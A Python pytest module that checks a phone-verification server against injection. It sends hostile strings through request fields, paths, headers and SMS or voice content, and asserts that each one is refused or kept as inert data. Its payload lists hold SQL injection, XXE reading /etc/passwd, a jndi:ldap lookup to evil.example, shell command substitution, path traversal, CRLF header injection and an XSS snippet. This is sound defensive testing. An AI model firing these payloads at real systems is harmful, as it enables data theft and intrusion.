"""Hostile texts in every field and header: they are refused or kept as what they are, and never act."""

from __future__ import annotations

import contextlib
import json
import re
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from urllib.parse import quote
from xml.etree import ElementTree

import pytest

from ringproof_server.domain.errors import InvalidRequest
from tests.support.api import (
    Answer,
    Api,
    Json,
    call_evidence,
    code_evidence,
    has_ended,
    is_message,
    is_ringing,
    pkce,
    raw_exchange,
    start_body,
)
from tests.support.servers import Server, Tenant

NUMBERS = (f"+3363998{index:04}" for index in range(1000, 9999))
SQL = (
    "'; DROP TABLE verifications; --",
    "' OR '1'='1",
    '" OR ""="',
    "1); DELETE FROM attempts WHERE (1=1",
    "'||(SELECT number FROM verifications LIMIT 1)||'",
    "\\'; SELECT pg_sleep(10); --",
    "%' UNION SELECT secret_key FROM applications --",
)
XML = (
    "</Say><Dial>+19005550100</Dial><Say>",
    "]]><Redirect>https://evil.example/</Redirect>",
    '"><Hangup/>',
    "&xxe;&lt;Dial&gt;",
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
)
LINES = (
    "a\r\nSet-Cookie: admin=1",
    "a\nevent=forged level=critical",
    'a\n{"event": "forged", "level": "critical"}',
    "a\r\n\r\n<html>forged</html>",
    "a\u2028forged\u2029",
    "\x1b[2J\x1b[31mforged\x1b[0m",
    "a\x00b",
)
TEMPLATES = (
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%(asctime)s %n%n%x",
    "{0.__class__.__mro__}",
    "../../../../etc/passwd",
    "$(touch /tmp/forged)`id`",
    "\u202e3210\u202d",
    "＇；ＤＲＯＰ ＴＡＢＬＥ",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
)
HOSTILE = (*SQL, *XML, *LINES, *TEMPLATES)


@pytest.fixture(scope="module", name="tenant")
def _tenant(server: Server) -> Tenant:
    return server.tenant("hostile", brand="<Ring> & 'Co'")


@pytest.fixture(name="api")
def _api(server: Server, tenant: Tenant) -> Iterator[Api]:
    # Unwatched: what is sent here as a number, a code or a key is none.
    client = Api(server.url, tenant.publishable, watched=False)
    yield client
    client.close()


@pytest.fixture(autouse=True, scope="module")
def _unharmed(server: Server, tenant: Tenant) -> Iterator[None]:
    """After everything: the tables, the rows and the log are what they were."""
    before = {name: count for name, count in _rows(server).items() if name in {"applications", "api_keys"}}
    yield
    after = _rows(server)
    assert {name: after[name] for name in before} == before
    assert after["verifications"] > 0
    assert after["attempts"] >= after["verifications"]
    _check_log(server.log)


def _rows(server: Server) -> dict[str, int]:
    file = server.settings.database_url.reveal().removeprefix("sqlite:///")
    with contextlib.closing(sqlite3.connect(file)) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        names = connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
        return {name: connection.execute(f'SELECT COUNT(*) FROM "{name}"').fetchone()[0] for (name,) in names}


def _check_log(log: str) -> None:
    """From the first request on every line is one JSON object of ours, and none has another's making."""
    written = log[log.index("{") :]
    for line in written.splitlines():
        assert json.loads(line)["event"]
        assert "forged" not in line
    assert "\x1b" not in log
    assert "DROP TABLE" not in log


def tame(answer: Answer) -> Answer:
    """Nothing has broken, and nothing was put between the headers."""
    assert answer.status < 500, answer
    assert "set-cookie" not in answer.headers
    assert "forged" not in str(dict(answer.headers))
    return answer


def fields() -> dict[str, tuple[str, ...]]:
    """The text fields of a start, as paths into its body."""
    return {
        "phone_number": ("phone_number",),
        "code_challenge": ("code_challenge",),
        "method": ("code_challenge_method",),
        "language": ("language",),
        "reference": ("reference",),
        "nonce": ("nonce",),
        "app hash": ("capabilities", "sms_app_hash"),
        "origin": ("capabilities", "web_origin"),
        "amount": ("transaction", "amount"),
        "currency": ("transaction", "currency"),
        "payee": ("transaction", "payee"),
    }


def with_text(path: tuple[str, ...], text: str) -> Json:
    """A start whose field `path` is this text."""
    body = start_body(next(NUMBERS), pkce()[1], channels=["sms"])
    body["transaction"] = {"amount": "1.00", "currency": "EUR", "payee": "ACME"}
    place = body
    for name in path[:-1]:
        place = place[name]
    place[path[-1]] = text
    return body


@pytest.mark.parametrize("name", fields())
def test_no_text_in_a_start_breaks_or_acts(api: Api, tenant: Tenant, name: str) -> None:
    """It is refused by its field's name, or taken and given back letter by letter."""
    taken = 0
    for text in HOSTILE:
        answer = tame(api.post("/v1/verifications", with_text(fields()[name], text)))
        if answer.status != 201:
            assert answer.problem in {"invalid-request", "invalid-phone-number"}
            assert answer.headers["content-type"] == "application/problem+json"
            continue
        taken += 1
        view = answer.json()
        if name == "reference":
            assert view["reference"] == text
            found = tame(api.get(f"/v1/verifications?reference={quote(text, safe='')}", key=tenant.secret))
            assert view["id"] in {item["id"] for item in found.json()["verifications"]}
            assert {item["reference"] for item in found.json()["verifications"]} == {text}
    assert (taken > 0) is (name in {"reference", "nonce", "payee"})


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_in_a_report_or_a_proof_breaks_or_acts(api: Api, text: str) -> None:
    """Caller IDs, digits, codes and telemetry are data, whatever stands in them."""
    number = next(NUMBERS)
    started = api.start(number, channels=["flashcall", "sms"])
    header = {"Ringproof-Challenge": started.challenge}
    for evidence in (
        call_evidence(text),
        {"channel": "flashcall", "last_digits": text},
        code_evidence(text),
        {"channel": text, "code": "123456"},
        {"channel": "flashcall", "caller_id": "+44", "basis": text},
    ):
        answer = tame(api.confirm(started, evidence))
        assert answer.status in {200, 400, 409}
        assert b'"token"' not in answer.body
    path = f"/v1/verifications/{started.id}"
    for report in ({"kind": "seen", "caller_id": text}, {"kind": text}, {"kind": "seen", "basis": text}):
        tame(api.post(f"{path}/reports", report, header))
    assert tame(api.post(f"{path}/next", {"channel": text}, header)).problem == "invalid-request"


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_in_an_address_breaks_or_acts(api: Api, tenant: Tenant, text: str) -> None:
    """Identifiers, references and numbers in the path and in the query."""
    told = quote(text, safe="")
    for path in (
        f"/v1/verifications/{told}",
        f"/v1/verifications/vrf_{told}",
        f"/v1/verifications?reference={told}",
        f"/handset/{told}/events",
        f"/handset/+447700900001/events?after={told}",
        f"/rcml/{told}",
        f"/problems/{told}",
        f"/assets/{told}",
        f"/{told}",
    ):
        answer = tame(api.get(path, key=tenant.secret))
        assert answer.status in {200, 308, 400, 404}, path
        if answer.status == 200:
            assert answer.json() == {"verifications": []} or "reference" in path
        assert b"root:" not in answer.body
    for path in (f"/carriers/{told}/events", f"/carriers/simulated/{told}", f"/rcml/{told}"):
        assert tame(api.post(path, b"")).status in {400, 403, 404, 405}


HEADERS = (
    "X-Request-ID",
    "Idempotency-Key",
    "Ringproof-Challenge",
    "User-Agent",
    "Authorization",
    "Origin",
    "X-Forwarded-For",
    "Accept-Language",
    "Content-Type",
    "Cookie",
    "Traceparent",
)


@pytest.mark.parametrize("name", HEADERS)
def test_no_text_in_a_header_breaks_or_acts(server: Server, tenant: Tenant, name: str) -> None:
    """Sent as raw bytes, so that line ends arrive too; the answer has no header that the sender made up."""
    for text in HOSTILE:
        head = {
            "Host": "127.0.0.1",
            "Authorization": f"Bearer {tenant.secret}",
            "Connection": "close",
            name: text,
        }
        lines = "".join(f"{key}: {value}\r\n" for key, value in head.items())
        received = raw_exchange(
            server.port, f"GET /v1/verifications?reference=none HTTP/1.1\r\n{lines}\r\n".encode()
        )
        start = received.split(b"\r\n\r\n")[0].lower()
        assert re.match(rb"http/1\.1 (200|400|401|403|431) ", start), (text, received[:300])
        assert b"set-cookie" not in start
        assert b"forged" not in start.replace(b"%0a", b"")


def test_a_request_id_that_is_repeated_is_harmless(api: Api) -> None:
    """Only what cannot act is repeated; everything else is replaced by an id of ours."""
    for text in HOSTILE:
        if not text.isascii() or re.search(r"[\x00-\x1f\x7f]", text):
            continue
        given = api.get("/livez", {"X-Request-ID": text}).headers["x-request-id"]
        assert re.fullmatch(r"[A-Za-z0-9._-]{8,64}", given)
        assert given != text


# --- what reaches the person


@pytest.mark.parametrize("payee", [*SQL[:3], *XML, *TEMPLATES[:5]])
def test_a_message_says_the_payee_and_nothing_that_it_made_up(api: Api, payee: str) -> None:
    """One text; the code stands in it once, and the payee changes none of its lines."""
    number = next(NUMBERS)
    transaction = {"amount": "12.30", "currency": "EUR", "payee": payee}
    api.start(number, channels=["sms"], language="en", transaction=transaction)
    message = api.wait_for(number, is_message)["text"]
    assert len(re.findall(r"(?<!\w)[0-9]{6}(?!\w)", message)) == 1
    assert "12.30" in message
    assert "<Ring> & 'Co'" in message


def test_a_payee_cannot_bind_the_code_to_another_site(api: Api) -> None:
    """The last line of a message binds its code to a web site (WebOTP); a payee never makes one."""
    number = next(NUMBERS)
    transaction = {"amount": "1.00", "currency": "EUR", "payee": "x @evil.example #123456"}
    api.start(number, channels=["sms"], language="en", transaction=transaction)
    message = api.wait_for(number, is_message)["text"]
    last = message.splitlines()[-1]
    assert not re.fullmatch(r"@[A-Za-z0-9.-]+ #[0-9]+", last)


@pytest.mark.parametrize("language", ["en", "de-DE", "ar", "xx", "en-Say-Dial", "zz-ZZ"])
def test_whoever_answers_hears_one_sentence(server: Server, api: Api, language: str) -> None:
    """The spoken document is words and an end, whatever brand and language were asked for."""
    number = next(NUMBERS)
    api.behave(number, "answer")
    api.start(number, channels=["flashcall"], language=language)
    ended = api.wait_for(number, has_ended)
    assert ended["answered"] is True
    assert ended["heard"]
    assert not re.search(r"[<>{}]|Dial|Ring>", ended["heard"])
    with server.node() as node:
        reference = node.parts.seals.sign_reference(_last_attempt(server))
    document = api.get(f"/rcml/{reference}")
    root = ElementTree.fromstring(document.body)
    assert {element.tag for element in root.iter()} <= {"Response", "Say", "Pause", "Hangup"}
    assert b"<!DOCTYPE" not in document.body


def _last_attempt(server: Server) -> str:
    file = server.settings.database_url.reveal().removeprefix("sqlite:///")
    with contextlib.closing(sqlite3.connect(file)) as connection:
        row = connection.execute(
            "SELECT id FROM attempts WHERE channel = 'flashcall' ORDER BY queued_at DESC"
        )
        return str(row.fetchone()[0])


def test_a_brand_is_one_line_of_printable_text(server: Server) -> None:
    """What would break a message into lines or turn its direction is refused."""
    with server.node() as node:
        for brand in ("a\nb", "a\r\nFrom: evil", "\u202eevil", "\x1b[31m", "", "x" * 25):
            with pytest.raises(InvalidRequest, match="brand"):
                node.administration.create_application("evil", brand=brand)


def test_a_refused_command_is_one_clear_line(server: Server) -> None:
    """`apps create` with a brand of two lines: exit code 2, one line, nothing stored."""
    done = subprocess.run(
        [sys.executable, "-m", "ringproof_server", "apps", "create", "evil", "--brand", "a\nb"],
        env=server.environment,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert (done.returncode, done.stdout) == (2, "")
    assert len(done.stderr.splitlines()) == 1
    with server.node() as node:
        assert "evil" not in {item.name for item in node.administration.applications()}


def test_the_handset_shows_the_caller_id_and_not_what_was_reported(api: Api) -> None:
    """What a client reports never reaches the phone or another client."""
    started = api.start(next(NUMBERS), channels=["flashcall"])
    event = api.wait_for(started.number, is_ringing)
    header = {"Ringproof-Challenge": started.challenge}
    body = {"kind": "seen", "caller_id": "<script>alert(1)</script>"}
    assert api.post(f"/v1/verifications/{started.id}/reports", body, header).status == 200
    assert "script" not in json.dumps(api.phone_events(started.number))
    assert "script" not in api.read(started).body.decode()
    assert event["caller_id"].startswith("+44")
